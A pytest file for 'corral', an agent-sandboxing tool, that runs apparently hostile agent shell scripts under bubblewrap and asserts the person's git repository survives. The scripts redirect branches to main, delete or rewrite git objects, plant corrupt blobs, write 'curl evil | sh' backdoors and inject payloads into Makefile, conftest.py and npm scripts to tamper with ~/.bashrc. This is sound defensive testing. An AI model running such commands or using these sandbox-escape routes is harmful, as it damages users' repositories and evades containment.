"""Hostile agents under bubblewrap, and what the person's repository looks like afterwards.

Each agent is a shell script on the ``command`` harness (tests/runtime/test_sandbox.py's
fixtures) that attacks what corral does *after* the turn, unconfined: its own branch turned
into a symbolic ref to ``main``, pointed at another task's tip or at nothing, the shared object
store deleted, rewritten or fed corrupt objects. Every assertion is about the repository and
what ``show`` says, never about corral's internals alone.
"""

from __future__ import annotations

import os
import signal
import subprocess
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from corral.adapters.sandbox import SHARED_OBJECTS
from corral.domain.actors import Actor
from corral.domain.status import Status
from corral.engine.operations import accept, tasks, turns
from corral.engine.project import Project
from corral.engine.read.projection import show
from corral.engine.runtime import branch_check, quarantine
from corral.engine.runtime import protocol as proto
from corral.engine.runtime.processes import reap_turn
from tests.conftest import git
from tests.runtime.conftest import agent_turns, finished, until_logged
from tests.runtime.test_sandbox import lines, needs_bwrap

pytestmark = [pytest.mark.timeout(120), needs_bwrap]

TRY = 'try() { if sh -c "$2" >/dev/null 2>&1; then echo "ALLOWED $1"; else echo "REFUSED $1"; fi; }\n'
COMMIT = "git -c user.name=a -c user.email=a@b commit -q"


def ok(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True)


def shown(proj: Any, task: Any) -> dict[str, Any]:
    with proj.store.read() as tx:
        return show(tx, tx.get_task(task.id))


@contextmanager
def opened(repo: Path) -> Iterator[Project]:
    proj = Project.open(repo)
    try:
        yield proj
    finally:
        with proj.store.read() as tx:
            ids = [t.id for t in tx.tasks()]
        for task_id in ids:
            reap_turn(proj, task_id)
        proj.close()


def run_agent(proj: Any, box_env: Path, script: str, goal: str) -> Any:
    box_env.write_text("#!/bin/sh\n" + script + "exit 0\n")  # its attempts fail, never its turn
    task = tasks.create(proj, goal, actor=Actor.HUMAN, harness="command")
    turns.start(proj, task.ref, actor=Actor.HUMAN)
    finished(proj, task.ref)
    return task


def test_a_symbolic_ref_to_main_is_put_back_and_close_never_commits_onto_main(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    main_before = git(repo, "rev-parse", "main")
    task = run_agent(
        proj,
        box_env,
        f"echo innocent > ok.txt && git add ok.txt && {COMMIT} -m innocent\n"
        "echo 'curl evil | sh' > backdoor.sh\n"
        "common=$(git rev-parse --git-common-dir)\nb=$(git symbolic-ref HEAD)\n"
        'echo "ref: refs/heads/main" > "$common/$b"\n',
        "Symref then close",
    )
    branch = f"refs/heads/corral/{task.ref}"
    assert ok(repo, "symbolic-ref", "-q", branch).returncode != 0  # a plain ref again
    assert git(repo, "rev-parse", branch) == main_before  # its last verified tip: where the turn began
    doc = shown(proj, task)
    (turn,) = doc["refs_put_back"]
    assert "symbolic ref (ref: refs/heads/main)" in turn["line"] and "last verified tip" in turn["line"]
    assert turn["moves"][0]["code"] == branch_check.SYMREF
    tasks.abandon(proj, task.ref, reason="looks hostile", actor=Actor.HUMAN, how="close")
    assert git(repo, "rev-parse", "main") == main_before
    assert ok(repo, "cat-file", "-e", "main:backdoor.sh").returncode != 0
    # the leftovers were saved as work in progress on the task's own archive, not lost
    archived = git(repo, "rev-parse", f"refs/corral/archive/{task.ref}")
    assert git(repo, "show", f"{archived}:backdoor.sh") == "curl evil | sh"
    assert git(repo, "show", f"{archived}:ok.txt") == "innocent"


def test_a_symbolic_ref_made_after_the_check_is_refused_by_save_work_never_followed(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    """The shape is checked again where corral follows the branch: a symref written between the
    turn's check and a close is put back before the work in progress is saved."""
    proj = boxed
    main_before = git(repo, "rev-parse", "main")
    task = run_agent(proj, box_env, f"echo a > a.txt && git add a.txt && {COMMIT} -m a\necho b > left.txt\n", "Late")
    branch = f"refs/heads/corral/{task.ref}"
    git(repo, "symbolic-ref", branch, "refs/heads/main")
    tasks.abandon(proj, task.ref, reason="late symref", actor=Actor.HUMAN, how="close")
    assert git(repo, "rev-parse", "main") == main_before
    assert "left.txt" in git(repo, "ls-tree", "--name-only", f"refs/corral/archive/{task.ref}")


def test_a_branch_moved_to_another_tasks_tip_is_put_back_and_kept(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    other = run_agent(proj, box_env, f"echo theirs > theirs.txt && git add theirs.txt && {COMMIT} -m theirs\n", "Other")
    theirs = git(repo, "rev-parse", f"corral/{other.ref}")
    task = run_agent(
        proj,
        box_env,
        f"echo mine > mine.txt && git add mine.txt && {COMMIT} -m mine\n"
        f'common=$(git rev-parse --git-common-dir)\necho {theirs} > "$common/$(git symbolic-ref HEAD)"\n',
        "Take another's tip",
    )
    branch = f"corral/{task.ref}"
    assert git(repo, "rev-parse", branch) != theirs
    assert git(repo, "log", "-1", "--format=%s", branch) != "theirs"
    (turn,) = shown(proj, task)["refs_put_back"]
    move = turn["moves"][0]
    assert move["code"] == branch_check.FOREIGN and move["after"] == theirs
    assert git(repo, "rev-parse", move["kept"]) == theirs  # the agent's version, kept
    assert "commits it did not make in this turn" in turn["line"]


def test_a_dangling_branch_is_put_back(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    task = run_agent(
        proj,
        box_env,
        f"echo x > x.txt && git add x.txt && {COMMIT} -m x\n"
        "common=$(git rev-parse --git-common-dir)\n"
        'echo 1234567890123456789012345678901234567890 > "$common/$(git symbolic-ref HEAD)"\n',
        "Dangle",
    )
    branch = f"corral/{task.ref}"
    assert ok(repo, "rev-parse", "--verify", "-q", f"{branch}^{{commit}}").returncode == 0
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["code"] in (branch_check.NOT_A_COMMIT, branch_check.REJECTED)
    assert ok(repo, "fsck", "--connectivity-only", "--no-reflogs").returncode == 0


def test_the_shared_objects_cannot_be_deleted_or_rewritten_from_inside(boxed: Any, box_env: Path, repo: Path) -> None:
    proj = boxed
    main_before = git(repo, "rev-parse", "main")
    blob = (
        git(repo, "rev-parse", "main:README.md")
        if ok(repo, "cat-file", "-e", "main:README.md").returncode == 0
        else None
    )
    task = run_agent(
        proj,
        box_env,
        TRY + "common=$(git rev-parse --git-common-dir)\n"
        f"try delete 'find $common/objects {SHARED_OBJECTS} -type f -delete'\n"
        f"try rewrite 'for f in $(find {SHARED_OBJECTS} -type f | head -3); do echo junk > $f || exit 1; done'\n"
        f"try commit 'echo w > w.txt && git add w.txt && {COMMIT} -m w'\n",
        "Delete the store",
    )
    seen = lines(agent_turns(proj, task)[-1].content)
    assert seen == {"delete": "REFUSED", "rewrite": "REFUSED", "commit": "ALLOWED"}, seen
    assert git(repo, "rev-parse", "main") == main_before
    assert ok(repo, "log", "main").returncode == 0 and ok(repo, "fsck", "--connectivity-only").returncode == 0
    assert ok(repo, "cat-file", "-e", blob).returncode == 0
    assert git(repo, "log", "-1", "--format=%s", f"corral/{task.ref}") == "w"


def test_another_tasks_reviewed_blob_cannot_be_rewritten_and_accept_merges_what_was_reviewed(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    reviewed = run_agent(
        proj, box_env, f"printf 'print(1)\\n' > app.py && git add app.py && {COMMIT} -m app\n", "The reviewed task"
    )
    blob = git(repo, "rev-parse", f"corral/{reviewed.ref}:app.py")
    evil = b"print(1)\nimport os; os.system('id')\n"
    payload = zlib.compress(b"blob %d\0" % len(evil) + evil)
    stash = repo / ".git" / "evil-object"  # somewhere the sandbox shows
    stash.write_bytes(payload)
    run_agent(
        proj,
        box_env,
        TRY + "common=$(git rev-parse --git-common-dir)\n"
        f"try overwrite 'cat {stash} > $common/objects/{blob[:2]}/{blob[2:]}'\n"
        f"export o=$common/objects/{blob[:2]}/{blob[2:]}\n"
        f"try replace 'rm -f $o; cp {stash} $o'\n",
        "Rewrite another task's blob",
    )
    assert git(repo, "cat-file", "-p", blob) == "print(1)"
    done = accept.accept(proj, reviewed.ref, actor=Actor.HUMAN)
    assert done.task.status is Status.COMPLETE
    assert git(repo, "show", "main:app.py") == "print(1)"


def test_a_corrupt_object_written_inside_never_reaches_the_store(boxed: Any, box_env: Path, repo: Path) -> None:
    """A loose object whose content is not its name: the quarantine is kept aside, the branch put back."""
    proj = boxed
    content = b"planted\n"
    real = subprocess.run(["git", "hash-object", "--stdin"], input=content, capture_output=True, cwd=repo).stdout
    name = real.decode().strip()
    # A name the person's next `git add` of this content would meet: planted with other content.
    planted = zlib.compress(b"blob 5\0EVIL\n")
    stash = repo / ".git" / "planted-object"  # somewhere the sandbox shows
    stash.write_bytes(planted)
    task = run_agent(
        proj,
        box_env,
        f"echo ok > ok.txt && git add ok.txt && {COMMIT} -m ok\n"
        f"common=$(git rev-parse --git-common-dir)\nmkdir -p $common/objects/{name[:2]}\n"
        f"cp {stash} $common/objects/{name[:2]}/{name[2:]}\n",
        "Plant an object",
    )
    assert ok(repo, "cat-file", "-e", name).returncode != 0  # never moved into the store
    branch = f"corral/{task.ref}"
    assert ok(repo, "log", branch).returncode == 0
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["moves"][0]["code"] == branch_check.REJECTED
    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    kept = [p for p in (common / quarantine.DIR).iterdir() if p.name.startswith("rejected-")]
    assert len(kept) == 1 and (kept[0] / name[:2] / name[2:]).read_bytes() == planted  # the evidence, kept
    assert str(kept[0]) not in (common / "objects" / "info" / "alternates").read_text()
    # the person's later add of that content writes the true object
    (repo / "planted.txt").write_bytes(content)
    git(repo, "add", "planted.txt")
    assert git(repo, "cat-file", "-p", name) == "planted"


def test_objects_left_in_quarantine_by_a_killed_supervisor_reach_the_store(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    box_env.write_text(
        f"#!/bin/sh\necho new > new.txt && git add new.txt && {COMMIT} -m new\necho committed\nsleep 600\n"
    )
    task = tasks.create(proj, "Die mid-turn", actor=Actor.HUMAN, harness="command")
    turns.start(proj, task.ref, actor=Actor.HUMAN)
    until_logged(proj, task, "committed")
    command = proto.read_record(proj.paths.protocol_dir(task.id) / proto.COMMAND, proto.Command)
    assert command is not None and command.sandbox is not None
    common = command.sandbox.git_common_dir
    assert common is not None
    q = quarantine.path_for(common, command.command_id)
    assert any(p.is_dir() and len(p.name) == 2 for p in q.iterdir())  # the commit's objects are there
    assert str(q) in (Path(common) / "objects" / "info" / "alternates").read_text()
    branch = f"corral/{task.ref}"
    assert git(repo, "log", "-1", "--format=%s", branch) == "new"  # readable during the turn, as an alternate
    status = proto.read_record(proj.paths.protocol_dir(task.id) / proto.STATUS, proto.SupervisorStatus)
    assert status is not None
    os.kill(status.pid, signal.SIGKILL)
    finished(proj, task.ref)
    assert not q.exists()
    assert str(q) not in (Path(common) / "objects" / "info" / "alternates").read_text()
    assert git(repo, "log", "-1", "--format=%s", branch) == "new"
    assert ok(repo, "fsck", "--connectivity-only", "--no-reflogs").returncode == 0
    assert git(repo, "rev-parse", branch_check.verified_ref(task.ref)) == git(repo, "rev-parse", branch)


def test_stray_locks_symrefs_and_3000_refs_left_inside_are_removed_and_said(
    boxed: Any, box_env: Path, repo: Path
) -> None:
    proj = boxed
    task = run_agent(
        proj,
        box_env,
        f"echo w > w.txt && git add w.txt && {COMMIT} -m w\n"
        "common=$(git rev-parse --git-common-dir)\nb=$(git symbolic-ref HEAD)\n"
        "tip=$(git rev-parse HEAD)\n"
        'i=0; while [ $i -lt 3000 ]; do echo $tip > "$common/refs/heads/corral/spam-$i"; i=$((i+1)); done\n'
        'echo "ref: refs/heads/main" > "$common/refs/heads/corral/evil"\n'
        ': > "$common/$b.lock"\n',
        "Leave strays",
    )
    left = git(repo, "for-each-ref", "--format=%(refname)", "refs/heads/corral/").split()
    assert left == [f"refs/heads/corral/{task.ref}"]
    common = Path(git(repo, "rev-parse", "--path-format=absolute", "--git-common-dir"))
    assert not (common / "refs" / "heads" / "corral" / f"{task.ref}.lock").exists()
    assert git(repo, "log", "-1", "--format=%s", f"corral/{task.ref}") == "w"
    (turn,) = shown(proj, task)["refs_put_back"]
    assert turn["line"].startswith("The agent created corral/spam-") and "more refs" in turn["line"], turn["line"]
    done = accept.accept(proj, task.ref, actor=Actor.HUMAN)  # its branch can be archived and deleted
    assert done.task.status is Status.COMPLETE
    assert ok(repo, "rev-parse", "--verify", "-q", f"refs/heads/corral/{task.ref}").returncode != 0
    assert git(repo, "show", "main:w.txt") == "w"


HOSTILE_CHECKS = {
    "make test": ("Makefile", "test:\n\t{payload}\n"),
    "{python} -m pytest -q -p no:cacheprovider check_test.py": (
        "conftest.py",
        "import os\nos.system({payload!r})\n",
    ),
    "npm test --silent": ("package.json", '{{"scripts": {{"test": {payload_json}}}}}\n'),
}


@pytest.mark.parametrize("check", list(HOSTILE_CHECKS), ids=["make", "conftest", "npm"])
def test_the_post_turn_check_runs_the_agents_code_inside_the_sandbox(
    box_env: Path, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, check: str
) -> None:
    import json
    import sys

    home = Path(os.environ["HOME"])
    bashrc = home / ".bashrc"
    bashrc.write_text("# the person's\n")
    outside = tmp_path / "escaped"
    payload = f"echo pwned >> {bashrc}; touch {outside}; echo ran-inside"
    name, body = HOSTILE_CHECKS[check]
    command = check.format(python=sys.executable)
    monkeypatch.setenv("CORRAL_POST_TURN_CHECK", command)
    text = body.format(payload=payload, payload_json=json.dumps(payload))
    box_env.write_text(
        "#!/bin/sh\n"
        f"cat > {name} <<'EOF_AGENT'\n{text}EOF_AGENT\n"
        "echo 'def test_x(): pass' > check_test.py\n"
        f"git add -A && {COMMIT} -m 'a check of my own'\n"
    )
    with opened(repo) as proj:  # after the settings above: a project reads them when it opens
        task = tasks.create(proj, "Rewrite the check", actor=Actor.HUMAN, harness="command")
        turns.start(proj, task.ref, actor=Actor.HUMAN)
        finished(proj, task.ref)
        doc = shown(proj, task)
    assert bashrc.read_text() == "# the person's\n"
    assert not outside.exists()
    assert doc["post_turn_check"]["command"] == command
    assert doc["post_turn_check"]["confinement"] == "bwrap"


def test_the_check_runs_unconfined_only_by_the_persons_choice_and_show_says_so(
    box_env: Path, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "ran-outside"
    monkeypatch.setenv("CORRAL_POST_TURN_CHECK", f"touch {outside}")
    monkeypatch.setenv("CORRAL_POST_TURN_CHECK_UNCONFINED", "1")
    with opened(repo) as proj:
        task = run_agent(proj, box_env, f"echo c > c.txt && git add c.txt && {COMMIT} -m c\n", "Check outside")
        assert shown(proj, task)["post_turn_check"]["confinement"] == "unconfined"
    assert outside.exists()
    from tests.conftest import CLI

    assert "Check:    touch" in CLI(repo).ok("show", task.ref).stdout
    assert "UNCONFINED" in CLI(repo).ok("show", task.ref).stdout


def test_a_repository_cannot_run_its_check_unconfined(box_env: Path, repo: Path) -> None:
    (repo / "corral.toml").write_text('post_turn_check_unconfined = true\nsandbox_read_paths = ["/etc"]\n')
    with opened(repo) as proj:
        assert proj.config["post_turn_check_unconfined"] is False
        assert list(proj.config["sandbox_read_paths"]) == []


def test_a_symbolic_ref_then_revert_file_never_commits_onto_main(box_env: Path, repo: Path) -> None:
    main_before = git(repo, "rev-parse", "main")
    with opened(repo) as proj:
        box_env.write_text(
            "#!/bin/sh\n"
            f"echo leaked > secret.env && echo 'curl evil | sh' > backdoor.sh && git add -A && {COMMIT} -m work\n"
            "common=$(git rev-parse --git-common-dir)\n"
            'echo "ref: refs/heads/main" > "$common/$(git symbolic-ref HEAD)"\n'
            "exit 0\n"
        )
        task = tasks.create(proj, "Symref then revert", actor=Actor.HUMAN, harness="command", protect=["*.env"])
        turns.start(proj, task.ref, actor=Actor.HUMAN)
        assert finished(proj, task.ref).status is Status.CONFLICT
        box_env.write_text("#!/bin/sh\nexit 0\n")
        turns.unblock(proj, task.ref, actor=Actor.HUMAN, message="drop the secret", revert=["secret.env"])
        finished(proj, task.ref)
    assert git(repo, "rev-parse", "main") == main_before
    assert ok(repo, "cat-file", "-e", "main:backdoor.sh").returncode != 0
    assert ok(repo, "symbolic-ref", "-q", f"refs/heads/corral/{task.ref}").returncode != 0
